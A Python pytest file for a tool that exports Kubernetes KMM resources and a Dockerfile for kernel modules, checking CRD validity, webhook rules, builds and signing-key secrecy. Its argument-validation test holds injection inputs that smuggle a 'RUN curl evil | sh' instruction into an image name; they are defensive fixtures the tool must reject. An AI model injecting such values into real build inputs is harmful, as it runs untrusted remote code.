"""``kmodkit kmm``: the Kernel Module Management resources are what KMM's own CRDs accept, and its Dockerfile builds.

Oracles: the KMM operator's CRD files (``../shared/kmm`` beside the repository, read here at test time,
never copied) through jsonschema, with the API server's strict field validation (an unknown field is an
error, as ``kubectl apply`` makes it by default); KMM's webhook rules, restated below from its documentation
(a mapping is literal or regexp, an image has a tag, the loading order starts with moduleName); kmod's modinfo
and depmod for what the Dockerfile's build commands make when run through a plain ``make`` outside a container
(there is no container runtime here) against this machine's kernel headers.
"""

from __future__ import annotations

import base64
import copy
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from conftest import KernelTree, need
from kmodkit.errors import UserError
from kmodkit.kbuild.builder import Build
from kmodkit.kmm.export import MODULE_API, PREFLIGHT_API, KmmExport, KmmOutput

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "example" / "hello"
#: the example as committed: not the out/ and .kmodkit/ a demo run leaves in the checkout
SOURCES_ONLY = shutil.ignore_patterns("out", ".kmodkit")
PROJECTS = Path(__file__).parent / "data" / "projects"
IMAGE = "registry.example.com/team/hello"


# --- the CRDs, read from ../shared/kmm -------------------------------------------------------------------------

def _shared_kmm() -> Path | None:
    """../shared/kmm beside the repository: beside this clone, or (in a git worktree) beside the main clone."""
    candidates = [REPO.parent / "shared" / "kmm"]
    proc = subprocess.run(["git", "-C", str(REPO), "rev-parse", "--path-format=absolute", "--git-common-dir"],
                          capture_output=True, text=True)
    if proc.returncode == 0:
        candidates.append(Path(proc.stdout.strip()).parent.parent / "shared" / "kmm")
    return next((c for c in candidates if (c / "kmm.sigs.x-k8s.io_modules.yaml").is_file()), None)


def _strict(schema: Any) -> Any:
    """``schema`` with unknown fields refused wherever it lists properties and does not keep unknown fields (the
    API server's strict field validation; jsonschema alone would accept a misspelt key)."""
    if isinstance(schema, list):
        return [_strict(s) for s in schema]
    if not isinstance(schema, dict):
        return schema
    out = {k: _strict(v) for k, v in schema.items()}
    if "properties" in out and "additionalProperties" not in out \
            and not out.get("x-kubernetes-preserve-unknown-fields"):
        out["additionalProperties"] = False
    return out


@cache
def _schemas() -> dict[tuple[str, str], Any]:
    """(apiVersion, kind) -> the strict openAPIV3Schema of every version the shared CRDs serve."""
    import yaml

    base = _shared_kmm()
    assert base is not None
    out = {}
    for crd_file in sorted(base.glob("*.yaml")):
        crd = yaml.safe_load(crd_file.read_text())
        group, kind = crd["spec"]["group"], crd["spec"]["names"]["kind"]
        for version in crd["spec"]["versions"]:
            if version.get("served"):
                out[(f"{group}/{version['name']}", kind)] = _strict(version["schema"]["openAPIV3Schema"])
    return out


@pytest.fixture(scope="module")
def crds() -> dict[tuple[str, str], Any]:
    if _shared_kmm() is None:
        need("../shared/kmm (the KMM operator's CRDs beside the repository)")
    return _schemas()


def _problems(doc: dict[str, Any], crds: dict[tuple[str, str], Any]) -> list[str]:
    """Why the CRD of ``doc``'s apiVersion and kind refuses it ([] when it accepts it)."""
    import jsonschema

    schema = crds.get((doc.get("apiVersion", ""), doc.get("kind", "")))
    if schema is None:
        return [f"no CRD serves {doc.get('apiVersion')} {doc.get('kind')}"]
    validator = jsonschema.Draft7Validator(schema)
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(doc)]


def _webhook_problems(module: dict[str, Any]) -> list[str]:
    """KMM's admission webhook rules for a Module (deploy_kmod.md and the webhook's messages), restated."""
    out = []
    meta = module["metadata"]
    if len(meta["name"]) + len(meta.get("namespace", "")) > 40:
        out.append("name and namespace longer than 40")
    container = module["spec"]["moduleLoader"]["container"]
    for i, m in enumerate(container["kernelMappings"]):
        if ("literal" in m) == ("regexp" in m):
            out.append(f"mapping {i}: literal xor regexp")
        image = m.get("containerImage") or container.get("containerImage", "")
        if ":" not in image.rsplit("/", 1)[-1] and "@" not in image:
            out.append(f"mapping {i}: image without tag or digest")
    modprobe = container["modprobe"]
    for i, m in enumerate(container["kernelMappings"]):  # secure_boot.md: every file to sign is under dirName
        for f in m.get("sign", {}).get("filesToSign", []):
            if not f.startswith(modprobe.get("dirName", "/opt").rstrip("/") + "/"):
                out.append(f"mapping {i}: {f} is not under dirName")
    order = modprobe.get("modulesLoadingOrder")
    if order is not None:
        if len(order) < 2 or order[0] != modprobe.get("moduleName") or len(set(order)) != len(order):
            out.append("loading order: at least two, moduleName first, no duplicates")
    return out


def _check_all(result: KmmOutput, crds: dict[tuple[str, str], Any]) -> None:
    for doc in result.documents:
        if doc["kind"] == "ConfigMap":  # core/v1: no CRD; the shape KMM's build mounts
            assert doc["apiVersion"] == "v1" and set(doc["data"]) == {"dockerfile"}
            assert isinstance(doc["data"]["dockerfile"], str)
            continue
        assert _problems(doc, crds) == [], doc["kind"]
    module = next(d for d in result.documents if d["kind"] == "Module")
    assert _webhook_problems(module) == []


def _mapping_for(module: dict[str, Any], release: str) -> dict[str, Any] | None:
    """The mapping KMM picks for a node running ``release``: the first literal equal to it or regexp matching
    it (Go's MatchString searches, as re.search does; the regexps here use the syntax both share)."""
    for m in module["spec"]["moduleLoader"]["container"]["kernelMappings"]:
        if m.get("literal") == release or ("regexp" in m and re.search(m["regexp"], release)):
            return m
    return None


def _module(result: KmmOutput) -> dict[str, Any]:
    return next(d for d in result.documents if d["kind"] == "Module")


# --- the documents ------------------------------------------------------------------------------------------

KERNELS = ["6.1.0-56-cloud-amd64", "6.1.0-57-amd64", "6.12.117+deb12-cloud-amd64"]


def test_every_document_validates_against_its_crd(crds: dict[tuple[str, str], Any]) -> None:
    for regexp in (False, True):
        result = KmmExport(EXAMPLE, IMAGE, kernels=list(KERNELS), namespace="kmm-fleet",
                           next_kernel="6.1.0-60-cloud-amd64", flavour_regexp=regexp).render()
        _check_all(result, crds)
        kinds = [(d["apiVersion"], d["kind"]) for d in result.documents]
        assert kinds == [("v1", "ConfigMap"), (MODULE_API, "Module"), (PREFLIGHT_API, "PreflightValidation")]
        # the versions the CRDs define: Module only v1beta1; PreflightValidation's storage version v1beta2
        assert MODULE_API == "kmm.sigs.x-k8s.io/v1beta1" and PREFLIGHT_API == "kmm.sigs.x-k8s.io/v1beta2"
        assert (PREFLIGHT_API, "PreflightValidation") in crds and ("kmm.sigs.x-k8s.io/v1beta2", "Module") not in crds


def test_a_broken_document_is_rejected_so_the_validation_can_fail(crds: dict[tuple[str, str], Any]) -> None:
    result = KmmExport(EXAMPLE, IMAGE, kernels=list(KERNELS), next_kernel="6.1.0-60-cloud-amd64").render()
    module = _module(result)
    preflight = result.documents[-1]

    def broken(doc: dict[str, Any], path: list[str], value: Any = KeyError) -> dict[str, Any]:
        doc = copy.deepcopy(doc)
        node = doc
        for key in path[:-1]:
            node = node[key]
        if value is KeyError:
            del node[path[-1]]
        else:
            node[path[-1]] = value
        return doc

    container = ["spec", "moduleLoader", "container"]
    cases = {
        "no kernelMappings": broken(module, container + ["kernelMappings"]),
        "empty kernelMappings": broken(module, container + ["kernelMappings"], []),
        "a misspelt field": broken(module, container + ["kernelMapping"], []),
        "dirName not a string": broken(module, container + ["modprobe", "dirName"], 5),
        "no selector": broken(module, ["spec", "selector"]),
        "a mapping without image": broken(module, container + ["kernelMappings"],
                                          [{"literal": KERNELS[0]}]),
        "preflight without kernelVersion": broken(preflight, ["spec", "kernelVersion"]),
        "preflight spec as a list": broken(preflight, ["spec"], []),
    }
    for what, doc in cases.items():
        assert _problems(doc, crds), what
    assert _problems(broken(module, ["apiVersion"], "kmm.sigs.x-k8s.io/v1beta2"), crds) == [
        "no CRD serves kmm.sigs.x-k8s.io/v1beta2 Module"]
    assert _webhook_problems(broken(module, container + ["modprobe", "modulesLoadingOrder"], ["other", "hello"]))
    assert _webhook_problems(broken(module, container + ["kernelMappings"],
                                    [{"literal": "x", "regexp": "x", "containerImage": IMAGE + ":1"}]))


def test_literal_mappings_cover_every_target_kernel() -> None:
    result = KmmExport(EXAMPLE, IMAGE, kernels=list(KERNELS)).render()
    module = _module(result)
    mappings = module["spec"]["moduleLoader"]["container"]["kernelMappings"]
    assert [m["literal"] for m in mappings] == KERNELS
    for release in KERNELS:
        m = _mapping_for(module, release)
        assert m is not None and m["literal"] == release
        assert m["build"] == {"dockerfileConfigMap": {"name": "hello-dockerfile"}}
    # KMM substitutes the node's release in the tag; one holding '+' is no tag, so it is written out, made one
    assert mappings[0]["containerImage"] == f"{IMAGE}:${{KERNEL_FULL_VERSION}}"
    assert mappings[2]["containerImage"] == f"{IMAGE}:6.12.117_deb12-cloud-amd64"
    assert _mapping_for(module, "6.1.0-60-cloud-amd64") is None
    # the same project gives the same Dockerfile (a reproducible archive): KMM sees nothing new to build
    assert KmmExport(EXAMPLE, IMAGE, kernels=list(KERNELS)).render().dockerfile == result.dockerfile


def test_flavour_regexps_cover_every_target_kernel_and_newer_abis() -> None:
    result = KmmExport(EXAMPLE, IMAGE, kernels=list(KERNELS), flavour_regexp=True).render()
    module = _module(result)
    mappings = module["spec"]["moduleLoader"]["container"]["kernelMappings"]
    assert [m["regexp"] for m in mappings] == [r"^.+-cloud-amd64$", r"^.+-amd64$"]
    for m in mappings:  # RE2's syntax and Python's agree on these: anchors, '.', '+', escaped punctuation
        assert re.fullmatch(r"\^\.\+-[a-z0-9-]+\$", m["regexp"]), m["regexp"]
        assert m["containerImage"] == f"{IMAGE}:${{KERNEL_FULL_VERSION}}"
    for release in KERNELS + ["6.1.0-60-cloud-amd64", "6.12.120+deb12-cloud-amd64"]:
        m = _mapping_for(module, release)
        assert m is not None
        assert m["regexp"] == (r"^.+-cloud-amd64$" if "cloud" in release else r"^.+-amd64$")
    assert _mapping_for(module, "6.1.0-60-arm64") is None
    assert any("6.12.117+deb12-cloud-amd64" in n for n in result.notes)  # '+' in a substituted tag: said


def test_modprobe_parameters_are_the_manifest_defaults(tmp_path: Path) -> None:
    project = tmp_path / "hello"
    shutil.copytree(EXAMPLE, project, ignore=SOURCES_ONLY)
    result = KmmExport(project, IMAGE, kernels=KERNELS[:1]).render()
    modprobe = _module(result)["spec"]["moduleLoader"]["container"]["modprobe"]
    assert modprobe == {"moduleName": "hello", "dirName": "/opt",
                        "parameters": ["repeat=1", "loops=100", "sleep_ms=0", "spin_us=0", "crash=0"]}
    assert "modulesLoadingOrder" not in modprobe  # one module: KMM's webhook wants two or more there


def test_preflight_for_the_next_kernel_maps_it_and_pushes_what_it_builds() -> None:
    result = KmmExport(EXAMPLE, IMAGE, kernels=KERNELS[:1], next_kernel="6.1.0-60-cloud-amd64").render()
    preflight = result.documents[-1]
    assert preflight["spec"] == {"kernelVersion": "6.1.0-60-cloud-amd64", "pushBuiltImage": True}
    assert "namespace" not in preflight["metadata"]  # cluster-scoped
    assert _mapping_for(_module(result), "6.1.0-60-cloud-amd64") is not None


# --- signing: Secret references, never the key ---------------------------------------------------------------

def _keyed_project(tmp_path: Path) -> Path:
    project = tmp_path / "hello"
    shutil.copytree(EXAMPLE, project, ignore=SOURCES_ONLY)
    keys = project / "keys"
    keys.mkdir()
    subprocess.run(["openssl", "req", "-new", "-nodes", "-utf8", "-sha256", "-days", "30", "-batch", "-x509",
                    "-subj", "/CN=kmm test", "-newkey", "rsa:2048", "-keyout", str(keys / "signing_key.pem"),
                    "-outform", "DER", "-out", str(keys / "signing_cert.der")], check=True, capture_output=True)
    text = (project / "kmodkit.toml").read_text()
    (project / "kmodkit.toml").write_text(text.replace('key = ""', 'key = "keys/signing_key.pem"')
                                          .replace('cert = ""', 'cert = "keys/signing_cert.der"'))
    return project


def _embedded_files(dockerfile: str) -> dict[str, bytes]:
    """The files of the archive the Dockerfile's builder stage unpacks (its lines joined as Docker joins them)."""
    joined = dockerfile.replace("\\\n", "")
    parts = re.findall(r"^RUN echo '([A-Za-z0-9+/=]+)' >>? \.kmodkit-sources\.b64$", joined, re.M)
    assert parts
    with tarfile.open(fileobj=io.BytesIO(base64.b64decode("".join(parts))), mode="r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}  # type: ignore[union-attr]


def test_sign_section_names_secrets_and_no_file_holds_the_key(tmp_path: Path,
                                                              crds: dict[tuple[str, str], Any]) -> None:
    project = _keyed_project(tmp_path)
    out = tmp_path / "kmm"
    proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(project), "--image", IMAGE,
                           "-k", KERNELS[0], "--out", str(out)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert "create secret generic hello-signing-key" in proc.stdout and "--from-file=key=" in proc.stdout
    import yaml

    docs = [d for d in yaml.safe_load_all((out / "kmm.yaml").read_text()) if d is not None]
    module = next(d for d in docs if d["kind"] == "Module")
    assert _problems(module, crds) == [] and _webhook_problems(module) == []
    sign = module["spec"]["moduleLoader"]["container"]["kernelMappings"][0]["sign"]
    assert sign == {"keySecret": {"name": "hello-signing-key"}, "certSecret": {"name": "hello-signing-cert"},
                    "filesToSign": ["/opt/lib/modules/${KERNEL_FULL_VERSION}/hello.ko"]}
    key = (project / "keys" / "signing_key.pem").read_bytes()
    body = b"".join(key.splitlines()[1:-1])
    der = base64.b64decode(body)
    written = [p.read_bytes() for p in out.iterdir()] + [proc.stdout.encode(), proc.stderr.encode()]
    embedded = _embedded_files((out / "Dockerfile").read_text())
    assert sorted(embedded) == ["Kbuild", "Makefile", "hello.c", "hello.h"]
    for blob in written + list(embedded.values()):
        assert b"PRIVATE KEY" not in blob and body[:64] not in blob and der[:64] not in blob
        assert body[:64].decode() not in blob.decode(errors="replace").replace("\\n", "")


def test_large_sources_are_split_into_run_lines_the_shell_can_take_made_in_test(tmp_path: Path) -> None:
    project = tmp_path / "hello"
    shutil.copytree(EXAMPLE, project, ignore=SOURCES_ONLY)
    # 480 KB of incompressible text: the archive's base64 is several times what one argument of sh -c may be
    (project / "table.h").write_text("/*\n" + os.urandom(240_000).hex() + "\n*/\n")
    dockerfile = KmmExport(project, IMAGE, kernels=KERNELS[:1]).render().dockerfile
    [builder, _] = _stages(dockerfile)
    runs = [rest for instruction, rest in builder if instruction == "RUN"]
    assert len(runs) > 4 and max(len(r) for r in runs) < 128 * 1024  # Linux's MAX_ARG_STRLEN
    work = tmp_path / "work"
    work.mkdir()
    for rest in runs:
        if "apt-get" not in rest and not rest.startswith("make "):
            subprocess.run(["sh", "-c", rest], cwd=work, check=True)
    assert sorted(p.name for p in work.iterdir()) == ["Kbuild", "Makefile", "hello.c", "hello.h", "table.h"]
    for name in ("hello.c", "table.h"):
        assert (work / name).read_bytes() == (project / name).read_bytes()


def test_a_private_key_among_the_sources_is_refused_made_in_test(tmp_path: Path) -> None:
    project = _keyed_project(tmp_path)
    shutil.copy(project / "keys" / "signing_key.pem", project / "secret.h")
    proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(project), "--image", IMAGE, "-k", KERNELS[0]],
                          capture_output=True, text=True)
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.startswith(f"error: {project / 'secret.h'}: holds a private key")
    assert "Traceback" not in proc.stderr and "BEGIN" not in proc.stderr


@pytest.mark.parametrize("args, message", [
    ([], "error: --image: is needed"),
    (["--image", IMAGE + ":v1"], f"error: --image {IMAGE}:v1: holds a tag or digest"),
    (["--image", "Registry.example.com/Team/Hello"], "is not an image name"),
    (["--image", "quay.io/team/hello\nRUN evil"], "error: --image 'quay.io/team/hello\\nRUN evil': is not an image"),
    (["--image", IMAGE, "--next-kernel", "../etc"], "error: --next-kernel '../etc': holds a /"),
    (["--image", IMAGE, "--namespace", "Bad_NS"], "is not a Kubernetes namespace name"),
    (["--image", IMAGE, "--prebuilt", "--flavour-regexp"], "error: --flavour-regexp:"),
    (["--image", IMAGE, "--base-image", "debian:12\nRUN curl evil | sh"], "is not an image reference"),
    (["--image", IMAGE, "--namespace", "a-namespace-that-is-long-enough-to-overflow"],
     "longer than KMM's webhook takes"),
])
def test_bad_arguments_are_one_line(args: list[str], message: str) -> None:
    proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(EXAMPLE), "-k", KERNELS[0], *args],
                          capture_output=True, text=True)
    assert proc.returncode == 2, proc.stderr
    assert message in proc.stderr and len(proc.stderr.strip().splitlines()) == 1


def test_a_project_of_several_modules_needs_a_build_for_its_order(tmp_path: Path) -> None:
    project = tmp_path / "core"
    shutil.copytree(PROJECTS / "core", project)
    with pytest.raises(UserError, match="loading order comes from the built modules"):
        KmmExport(project, IMAGE, kernels=KERNELS[:1]).render()


# --- the Dockerfile, run outside a container ----------------------------------------------------------------

def _stages(dockerfile: str) -> list[list[tuple[str, str]]]:
    """The Dockerfile's stages, each a list of (instruction, arguments), continuation lines joined, comments out."""
    stages: list[list[tuple[str, str]]] = []
    for line in dockerfile.replace("\\\n", "").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        instruction, _, rest = line.partition(" ")
        if instruction == "FROM":
            stages.append([])
        stages[-1].append((instruction, rest))
    return stages


def _build_outside_a_container(dockerfile: str, release: str, work: Path) -> Path:
    """Run the Dockerfile as a container would, on this machine: the builder's RUN lines (all but the package
    install, which this machine's installed headers stand for) in ``work`` as its WORKDIR, then the final
    stage's COPY and depmod into ``work/image`` standing for the image's root.  Returns that root."""
    builder, final = _stages(dockerfile)
    env = dict(os.environ, KERNEL_FULL_VERSION=release)
    workdir = ""
    for instruction, rest in builder:
        if instruction == "WORKDIR":
            workdir = rest
        elif instruction == "RUN" and ("apt-get" in rest or "dnf" in rest):
            assert "linux-headers-${KERNEL_FULL_VERSION}" in rest
        elif instruction == "RUN":
            subprocess.run(["sh", "-c", rest], cwd=work, env=env, check=True, capture_output=True)
    image = work / "image"
    for instruction, rest in final:
        if instruction == "COPY":
            *sources, dest = rest.removeprefix("--from=builder ").split()
            target = image / dest.replace("${KERNEL_FULL_VERSION}", release).lstrip("/")
            target.mkdir(parents=True, exist_ok=True)
            for source in sources:
                shutil.copy(work / Path(source).relative_to(workdir), target)
        elif instruction == "RUN" and rest.startswith("depmod "):
            argv = [str(image / "opt") if a == "/opt" else a.replace("${KERNEL_FULL_VERSION}", release)
                    for a in rest.split()]
            subprocess.run(argv, check=True, capture_output=True)
    return image


def _modinfo(path: Path, field: str) -> str:
    return subprocess.run(["modinfo", "-F", field, str(path)], capture_output=True, text=True,
                          check=True).stdout.strip()


@pytest.mark.kernel
@pytest.mark.slow
def test_the_dockerfile_builds_the_module_for_its_kernel_with_plain_make(
        tmp_path: Path, cloud_tree: KernelTree, xz_tree: KernelTree) -> None:
    for tree in (cloud_tree, xz_tree):
        if tree.headers is None:
            need(f"the headers of {tree.release}")
        result = KmmExport(EXAMPLE, IMAGE, kernels=[tree.release]).render()
        work = tmp_path / tree.release
        work.mkdir()
        image = _build_outside_a_container(result.dockerfile, tree.release, work)
        ko = image / "opt" / "lib" / "modules" / tree.release / "hello.ko"
        assert _modinfo(ko, "vermagic").split()[0] == tree.release
        assert _modinfo(ko, "name") == "hello"
        dep = (image / "opt" / "lib" / "modules" / tree.release / "modules.dep").read_text()
        assert dep == "hello.ko:\n"  # what modprobe -d /opt finds in KMM's worker


@pytest.mark.kernel
@pytest.mark.slow
def test_several_modules_load_in_dependency_order_and_build_from_the_dockerfile(
        tmp_path: Path, cloud_tree: KernelTree, crds: dict[tuple[str, str], Any]) -> None:
    if cloud_tree.headers is None:
        need(f"the headers of {cloud_tree.release}")
    project = tmp_path / "core"
    shutil.copytree(PROJECTS / "core", project)
    report = Build(project, kernels=[cloud_tree.release], workdir=tmp_path / "work", check=False).run()
    assert report.ok, [(r.kernel, r.problem) for r in report.results]
    result = KmmExport(project, IMAGE, kernels=[cloud_tree.release]).render()
    _check_all(result, crds)
    assert result.load_order == ("fleetmon", "fleetmon_jiffies")  # jiffies needs fleetmon's exports
    modprobe = _module(result)["spec"]["moduleLoader"]["container"]["modprobe"]
    assert modprobe == {"moduleName": "fleetmon_jiffies", "dirName": "/opt",
                        "modulesLoadingOrder": ["fleetmon_jiffies", "fleetmon"]}
    assert any("fleetmon's defaults and options are not passed" in n for n in result.notes)
    # the Dockerfile carries the manifest's include and cflags (as $(M)/...) and builds both modules
    work = tmp_path / "docker"
    work.mkdir()
    image = _build_outside_a_container(result.dockerfile, cloud_tree.release, work)
    moddir = image / "opt" / "lib" / "modules" / cloud_tree.release
    for name in ("fleetmon", "fleetmon_jiffies"):
        assert _modinfo(moddir / f"{name}.ko", "vermagic").split()[0] == cloud_tree.release
    assert "fleetmon_jiffies.ko: fleetmon.ko" in (moddir / "modules.dep").read_text()
    # the same module kmodkit build made: the same sources, flags and kernel give the same srcversion
    assert _modinfo(moddir / "fleetmon.ko", "srcversion") == \
        _modinfo(project / "out" / cloud_tree.release / "fleetmon.ko", "srcversion")


@pytest.mark.kernel
@pytest.mark.slow
def test_prebuilt_maps_one_image_per_built_kernel(tmp_path: Path, cloud_tree: KernelTree,
                                                  crds: dict[tuple[str, str], Any]) -> None:
    project = tmp_path / "hello"
    shutil.copytree(EXAMPLE, project, ignore=SOURCES_ONLY)
    with pytest.raises(UserError, match=f"holds no complete build for {re.escape(cloud_tree.release)}"):
        KmmExport(project, IMAGE, kernels=[cloud_tree.release], prebuilt=True)
    if cloud_tree.headers is None:
        need(f"the headers of {cloud_tree.release}")
    assert Build(project, kernels=[cloud_tree.release], workdir=tmp_path / "work", check=False).run().ok
    result = KmmExport(project, IMAGE, kernels=[cloud_tree.release], prebuilt=True).render()
    _check_all(result, crds)
    assert [d["kind"] for d in result.documents] == ["Module"]  # no ConfigMap: nothing is built in the cluster
    [mapping] = _module(result)["spec"]["moduleLoader"]["container"]["kernelMappings"]
    assert mapping == {"literal": cloud_tree.release, "containerImage": f"{IMAGE}:{cloud_tree.release}"}
    assert result.images == ((cloud_tree.release, f"{IMAGE}:{cloud_tree.release}"),)
    [final] = _stages(result.dockerfile)
    copied = next(rest for instruction, rest in final if instruction == "COPY").split()[:-1]
    assert [(project / c.replace("${KERNEL_FULL_VERSION}", cloud_tree.release)).is_file() for c in copied] == [True]


def test_cli_writes_the_files_atomically_and_they_parse_as_yaml(tmp_path: Path) -> None:
    out = tmp_path / "kmm"
    proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(EXAMPLE), "--image", IMAGE, "-k", KERNELS[0],
                           "--next-kernel", "6.1.0-60-cloud-amd64", "--out", str(out)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in out.iterdir()) == ["Dockerfile", "kmm.yaml"]  # no temp or journal left
    import yaml

    text = (out / "kmm.yaml").read_text()
    docs = [d for d in yaml.safe_load_all(text) if d is not None]
    as_json = [json.loads(part) for part in text.split("---\n")[1:]]
    assert docs == as_json and [d["kind"] for d in docs] == ["ConfigMap", "Module", "PreflightValidation"]
    assert docs[0]["data"]["dockerfile"] == (out / "Dockerfile").read_text()
    # without --out the stream goes to standard output, the summary to standard error
    proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(EXAMPLE), "--image", IMAGE, "-k", KERNELS[0]],
                          capture_output=True, text=True)
    assert proc.returncode == 0 and "default/hello: 1 kernel(s), loading hello" in proc.stderr
    assert [d["kind"] for d in yaml.safe_load_all(proc.stdout) if d is not None] == ["ConfigMap", "Module"]


def test_json_holds_the_documents_and_the_secrets_to_create(tmp_path: Path, crds: dict[tuple[str, str], Any]) -> None:
    project = _keyed_project(tmp_path)
    proc = subprocess.run([sys.executable, "-m", "kmodkit", "kmm", str(project), "--image", IMAGE, "-k", KERNELS[0],
                           "--json"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert [d["kind"] for d in doc["documents"]] == ["ConfigMap", "Module"] and doc["files"] == []
    assert all(_problems(d, crds) == [] for d in doc["documents"][1:])
    assert [(s["name"], s["entry"]) for s in doc["secrets"]] == [("hello-signing-key", "key"),
                                                                   ("hello-signing-cert", "cert")]
    assert doc["secrets"][0]["from"] == str(project / "keys" / "signing_key.pem")
    assert "PRIVATE KEY" not in proc.stdout
